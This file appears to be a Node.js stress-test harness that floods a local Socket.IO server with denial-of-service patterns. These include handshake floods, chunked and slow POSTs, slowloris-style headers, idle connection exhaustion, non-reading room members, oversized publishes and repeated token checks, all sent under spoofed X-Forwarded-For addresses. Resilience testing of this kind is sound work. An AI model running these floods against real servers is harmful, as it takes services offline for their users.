// A swarm of hostile clients: opens what it is told to, as fast as it can, until it is stopped.
//
//   node swarm.mjs --url http://127.0.0.1:3000 --attack handshakes --addresses 1 [--token TOKEN]

import { connect } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { parseArgs } from "node:util";

import { frame, handshake, textFrame } from "../websocket.mjs";

const { values } = parseArgs({
  options: {
    url: { type: "string" },
    attack: { type: "string" },
    addresses: { type: "string", default: "1" },
    token: { type: "string", default: "" },
  },
});
const url = new URL(values.url);
const addresses = Number(values.addresses);
const POLLING = "/socket.io/?EIO=4&transport=polling";
// How long a client that was refused waits before it comes again.
const AGAIN_MS = 200;
let next = 0;

// The address that the proxy in front reports. They are of the networks for benchmarks (RFC 2544).
const address = () => {
  const n = next++ % addresses;
  return `198.18.${n >> 8}.${n & 255}`;
};

// A connection; `received` gets what arrives. It ends with the server's.
function open(received = () => {}) {
  const socket = connect({ host: url.hostname, port: Number(url.port), noDelay: true });
  socket.ended = new Promise((resolve) => socket.once("close", resolve));
  socket.on("error", () => {}).on("data", received);
  return socket;
}

const head = (method, path, from, more = "") =>
  `${method} ${path} HTTP/1.1\r\nHost: ${url.host}\r\nX-Forwarded-For: ${from}\r\n${more}\r\n`;

// Keeps this many of something going: each begins again when it ends.
async function keep(count, one) {
  const forever = async () => {
    for (;;) {
      await one(address());
      await sleep(AGAIN_MS);
    }
  };
  for (let i = 0; i < count; i++) {
    forever();
    if (i % 50 === 49) await sleep(20);
  }
}

// A session over polling: its id, or undefined where it is refused.
function session(from) {
  return new Promise((resolve) => {
    let text = "";
    const socket = open((data) => {
      text += data;
      const sid = /"sid":"([^"]+)"/.exec(text)?.[1];
      if (sid || /^HTTP\/1.1 [45]/.test(text)) {
        resolve(sid);
        socket.destroy();
      }
    });
    socket.once("close", () => resolve(undefined));
    socket.write(head("GET", POLLING, from));
  });
}

// A WebSocket that is in the namespace and a room; it reads only where `reads` is set.
async function member(from, room, { reads = true, then = () => {} } = {}) {
  let text = "";
  const socket = open((data) => {
    if (text === undefined) return;
    text += data.toString("latin1");
    if (!text.includes("430[")) return;
    text = undefined;
    if (!reads) socket.pause();
    then(socket);
  });
  socket.write(handshake(url, { "X-Forwarded-For": from }));
  socket.write(frame("40"));
  await sleep(100);
  socket.write(frame(`420${JSON.stringify(["join", { room }])}`));
  await socket.ended;
}

const publish = (room, bytes) => textFrame(`42${JSON.stringify(["publish", { room, event: "e", data: "x".repeat(bytes) }])}`);

// Writes without an end, as fast as the server reads.
async function pour(socket, bytes) {
  while (!socket.destroyed) {
    if (!socket.write(bytes)) await Promise.race([new Promise((resolve) => socket.once("drain", resolve)), socket.ended]);
  }
}

const ATTACKS = {
  // 1,000 a second, on 100 connections that stay open.
  handshakes: () =>
    keep(100, async (from) => {
      const socket = open();
      for (let i = 0; i < 1000 && !socket.destroyed; i++) {
        socket.write(head("GET", POLLING, addresses > 1 ? address() : from));
        await sleep(100);
      }
      socket.destroy();
    }),
  // Sessions with ten POSTs at once, of chunks of one byte.
  posts: () =>
    keep(100, async (from) => {
      const sid = await session(from);
      if (!sid) return;
      const chunks = Buffer.from("1\r\nx\r\n".repeat(50_000));
      const posts = Array.from({ length: 10 }, async () => {
        const socket = open();
        socket.write(head("POST", `${POLLING}&sid=${sid}`, from, "Transfer-Encoding: chunked\r\n"));
        await pour(socket, chunks);
      });
      await Promise.all(posts);
    }),
  // Half of them bodies of a byte a second, half of them heads.
  slow: () =>
    keep(2000, async (from) => {
      const sid = next % 2 ? await session(from) : undefined;
      const socket = open();
      if (sid) socket.write(head("POST", `${POLLING}&sid=${sid}`, from, "Content-Length: 1000000\r\n"));
      else socket.write(`GET ${POLLING} HTTP/1.1\r\nHost: ${url.host}\r\nX-Forwarded-For: ${from}\r\n`);
      while (!socket.destroyed) {
        socket.write(sid ? "x" : "X-A: b\r\n");
        await Promise.race([sleep(1000), socket.ended]);
      }
    }),
  idle: () =>
    keep(5000, async (from) => {
      const socket = open();
      socket.write(head("GET", "/nothing", from));
      await socket.ended;
    }),
  // Members that do not read, of a room into which others pour.
  deaf: async () => {
    await keep(300, (from) => member(from, "hot", { reads: false }));
    await keep(20, (from) => member(from, "hot", { then: (socket) => pour(socket, publish("hot", 16 << 10)) }));
  },
  large: () => keep(50, (from) => member(from, "large", { then: (socket) => pour(socket, publish("large", 1_000_000)) })),
  // Each CONNECT costs the check of a signature.
  tokens: () =>
    keep(200, async (from) => {
      const socket = open();
      socket.write(handshake(url, { "X-Forwarded-For": from }));
      const connects = textFrame(`40${JSON.stringify({ token: values.token })}`);
      while (!socket.destroyed) {
        socket.write(connects);
        await Promise.race([sleep(5), socket.ended]);
      }
    }),
};

await ATTACKS[values.attack]();
